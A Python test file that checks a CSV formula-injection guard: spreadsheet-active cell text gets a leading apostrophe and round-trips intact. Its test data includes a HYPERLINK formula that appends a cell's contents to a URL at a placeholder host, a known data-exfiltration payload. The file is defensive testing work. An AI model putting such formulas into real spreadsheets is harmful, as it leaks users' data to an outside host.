"""What a spreadsheet would run is text in our CSV, and every text comes back as it was."""

import csv
import io
import itertools
import math

import pytest

from grmeval.formulas import guarded, unguarded

FORMULAS = (
    '=HYPERLINK("http://x?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "'=1+1",
    "''-",
)
PLAIN = ("", "a=b", "'quoted'", "it's -", " =1", "(-1)", "1-2", "#x", "漢")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_one_apostrophe(text: str) -> None:
    assert guarded(text) == f"'{text}"
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_another_text_stays_as_it_is(text: str) -> None:
    assert guarded(text) == unguarded(text) == text


def test_numbers_stay_numbers() -> None:
    for cell in (-1, -0.5, 0, None, True):
        assert guarded(cell) is cell
    assert math.isinf(guarded(-math.inf))


def test_every_short_text_comes_back_and_none_that_is_written_begins_with_a_sign() -> None:
    for length in range(5):
        for signs in itertools.product("'=-\ta", repeat=length):
            text = "".join(signs)
            out = io.StringIO()
            csv.writer(out).writerow([guarded(text), "end"])
            (row,) = csv.reader(io.StringIO(out.getvalue(), newline=""))
            assert unguarded(row[0]) == text
            assert not row[0].startswith(("=", "-", "\t"))
